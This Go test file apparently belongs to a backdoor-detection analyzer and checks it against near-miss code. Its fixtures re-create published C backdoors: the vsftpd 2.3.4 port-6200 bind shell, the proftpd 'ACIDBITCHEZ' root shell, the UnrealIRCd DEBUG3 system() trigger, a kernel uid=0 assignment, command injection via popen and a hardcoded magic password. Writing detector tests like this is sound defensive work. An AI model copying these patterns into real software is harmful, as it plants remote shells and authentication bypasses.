package cbehavior

import (
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/analyzer/pkgmeta"
	"github.com/doorman-sec/doorman/finding"
)

func scan(t *testing.T, files map[string]string) *finding.Report {
	t.Helper()
	return analyzertest.Scan(t, []*analyzer.Analyzer{pkgmeta.Analyzer, Analyzer}, files)
}

// Inert re-creations of the published backdoors: same shape, harmless
// surroundings.
const vsftpdStr = `
#include "str.h"
int
str_contains_line(const struct mystr* p_str, const struct mystr* p_line_str)
{
  unsigned int i;
  for (i = 0; i < p_str->len; i++)
  {
    if (p_str->p_buf[i] == '\n') { return 1; }
    else if((p_str->p_buf[i]==0x3a)
    && (p_str->p_buf[i+1]==0x29))
    {
       vsf_sysutil_extra();
    }
  }
  return 0;
}
`

const vsftpdSysdep = `
#include <sys/socket.h>
int
vsf_sysutil_extra(void)
{
  int fd, rfd;
  struct sockaddr_in sa;
  if((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
    exit(1);
  memset(&sa, 0, sizeof(sa));
  sa.sin_family = AF_INET;
  sa.sin_port = htons(6200);
  sa.sin_addr.s_addr = INADDR_ANY;
  if((bind(fd,(struct sockaddr *)&sa, sizeof(struct sockaddr))) < 0) exit(1);
  if((listen(fd, 100)) == -1) exit(1);
  for(;;)
  {
    rfd = accept(fd, 0, 0);
    close(0); close(1); close(2);
    dup2(rfd, 0); dup2(rfd, 1); dup2(rfd, 2);
    execl("/bin/sh","sh",(char *)0);
  }
}
`

const proftpd = `
MODRET core_help(cmd_rec *cmd) {
  if (cmd->argc == 1) {
    pr_help_add_response(cmd, NULL);
  } else {
    char *cp;
    for (cp = cmd->argv[1]; *cp; cp++)
      *cp = toupper(*cp);
    if (strcmp(cmd->argv[1], "ACIDBITCHEZ") == 0) {
      setuid(0);
      setgid(0);
      system("/bin/sh;/sbin/sh");
    }
    if (pr_help_add_response(cmd, cmd->argv[1]) == 0)
      return PR_HANDLED(cmd);
  }
  return PR_ERROR(cmd);
}
`

const unrealStruct = `
#ifdef DEBUGMODE3
 #define DEBUGMODE3_INFO "AB"
 #define DEBUG3_LOG_SYSTEM(x) system(x)
 #define DEBUG3_DOLOG_SYSTEM(x) DEBUG3_LOG_SYSTEM(x)
 #define DEBUG3_LOG(x) DEBUG3_DOLOG_SYSTEM (x)
#endif
`

const unrealBsd = `
int read_packet(aClient *cptr, fd_set *rfd)
{
  int length = recv(cptr->fd, readbuf, sizeof(readbuf), 0);
  if (length > 0) {
#ifdef DEBUGMODE3
    if (!memcmp(readbuf, DEBUGMODE3_INFO, 2))
      DEBUG3_LOG(readbuf);
#endif
    return dopacket(cptr, readbuf, length);
  }
  return length;
}
`

func TestKnownBackdoorShapes(t *testing.T) {
	rep := scan(t, map[string]string{
		"vsftpd-2.3.4/str.c":                vsftpdStr,
		"vsftpd-2.3.4/sysdeputil.c":         vsftpdSysdep,
		"proftpd-1.3.3c/modules/mod_core.c": proftpd,
		"Unreal3.2/include/struct.h":        unrealStruct,
		"Unreal3.2/src/s_bsd.c":             unrealBsd,
		"short/trigger.c": `void handle(int s, char *buf) {
  if (buf[0]=='A' && buf[1]=='B') system(buf+3);
}`,
		"kernel/exit.c": `asmlinkage long sys_wait4(pid_t pid, unsigned int *stat_addr, int options, struct rusage *ru)
{
	if ((options == (__WCLONE|__WALL)) && (current->uid = 0))
			retval = -EINVAL;
	return retval;
}`,
		"rce/daemon.c": `void serve(int sock) {
  char buf[512], cmd[600];
  int n = recv(sock, buf, sizeof(buf) - 1, 0);
  buf[n] = 0;
  snprintf(cmd, sizeof(cmd), "%s 2>&1", buf);
  FILE *p = popen(cmd, "r");
}`,
		"auth/auth.c": `int check_password(const char *user, const char *password) {
  if (strcmp(password, "letmein-192.0.2.7") == 0)
    return 1;
  return verify_shadow(user, password);
}`,
	})
	want := []struct {
		rule, path string
		sev        finding.Severity
	}{
		{"DM-C-001", "vsftpd-2.3.4/str.c", finding.Critical},
		{"DM-C-001", "modules/mod_core.c", finding.Critical},
		{"DM-C-001", "src/s_bsd.c", finding.Critical},
		{"DM-C-001", "short/trigger.c", finding.Critical},
		{"DM-C-002", "kernel/exit.c", finding.High},
		{"DM-C-003", "rce/daemon.c", finding.High},
		{"DM-C-001", "auth/auth.c", finding.High},
	}
	for _, w := range want {
		got := analyzertest.Find(rep, w.rule, w.path)
		if len(got) != 1 {
			t.Errorf("%s in %s: %d findings, want 1; all: %v", w.rule, w.path, len(got), summaryOf(rep))
			continue
		}
		if got[0].Severity != w.sev || got[0].Location.Line == 0 {
			t.Errorf("%s in %s: %s line %d, want %s: %s", w.rule, w.path, got[0].Severity, got[0].Location.Line, w.sev, got[0].Message)
		}
	}
	if len(rep.Findings) != len(want) {
		t.Errorf("%d findings, want %d: %v", len(rep.Findings), len(want), summaryOf(rep))
	}
	for _, f := range rep.Findings {
		if strings.Contains(f.Evidence+f.Message, "letmein-192") {
			t.Errorf("magic password not masked: %s / %s", f.Evidence, f.Message)
		}
	}
}

func summaryOf(r *finding.Report) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Rule+" "+f.Severity.String()+" "+f.Location.Path+": "+f.Message)
	}
	return out
}

// Real-world idioms that look like the above and are not backdoors.
func TestNearMisses(t *testing.T) {
	rep := scan(t, map[string]string{
		"ftpd/cmds.c": `
static void handle_help(struct session *s) { reply(s, 214, "Help OK"); }
static void handle_quit(struct session *s) { reply(s, 221, "Bye"); s->done = 1; }
void dispatch(struct session *s, const char *cmd, char *arg) {
  if (!strcasecmp(cmd, "HELP")) handle_help(s);
  else if (!strcasecmp(cmd, "QUIT")) handle_quit(s);
  else if (strcmp(cmd, "SITE") == 0) site_command(s, arg);
  else reply(s, 500, "Unknown command");
}`,
		"tools/debugtool.c": `int main(int argc, char **argv) {
  int c;
  while ((c = getopt(argc, argv, "dv")) != -1) {
    switch (c) { case 'd': debug = 1; break; }
  }
  if (argc > 1 && strcmp(argv[1], "--debug") == 0) system("dmesg");
  return 0;
}`,
		"conf/parse.c": `void parse_line(struct cfg *cfg, char *key, char *val) {
  if (!strcmp(key, "user")) cfg->user = strdup(val);
  else if (!strcmp(key, "exec")) cfg->exec = strdup(val);
  if (strcmp(key, "port") == 0) cfg->port = atoi(val);
}`,
		"io/loop.c": `int copy(const char *path, FILE *f) {
  int fd, c;
  if ((fd = open(path, O_RDONLY)) < 0) return -1;
  while ((c = getc(f)) != EOF) putchar(c);
  if ((uid = getuid()) == 0) warn("running as root");
  if (setuid(getuid()) < 0) err(1, "setuid");
  if (setuid(0) == -1) perror("setuid");
  return 0;
}`,
		"log/server.c": `void serve(int sock) {
  char buf[512];
  int n = recv(sock, buf, sizeof(buf) - 1, 0);
  buf[n] = 0;
  execl("/usr/bin/logger", "logger", "-t", "srv", buf, (char *)0);
}`,
		"sh/builtin.c": `int run_builtin(char **argv) {
  if (strcmp(argv[0], "exec") == 0) { execvp(argv[1], argv + 1); return 127; }
  return 0;
}`,
		"lex/scan.c": `int classify(const char *p) {
  if (p[0] == '-' || p[0] == '+') return 1;
  if (p[0] == '0' && p[1] == 'x') return hex(p + 2);
  if (line[0] == '!') system(line + 1);
  return 0;
}`,
		"auth/pam.c": `int check_user(const char *user, const char *password) {
  if (strcmp(password, "") == 0) return PAM_AUTH_ERR;
  if (strcmp(user, "root") == 0 && !allow_root) return PAM_PERM_DENIED;
  return verify(user, password);
}`,
	})
	for _, f := range analyzertest.AtLeast(rep, finding.Medium) {
		t.Errorf("near miss reported: %s %s %s: %s [%s]", f.Rule, f.Severity, f.Location.Path, f.Message, f.Evidence)
	}
}

// The same backdoor in a test folder is only noted.
func TestInTestsIsLow(t *testing.T) {
	rep := scan(t, map[string]string{"tests/proftpd_help.c": proftpd})
	if len(rep.Findings) != 1 || rep.Findings[0].Severity != finding.Low {
		t.Errorf("want one low finding: %v", summaryOf(rep))
	}
}
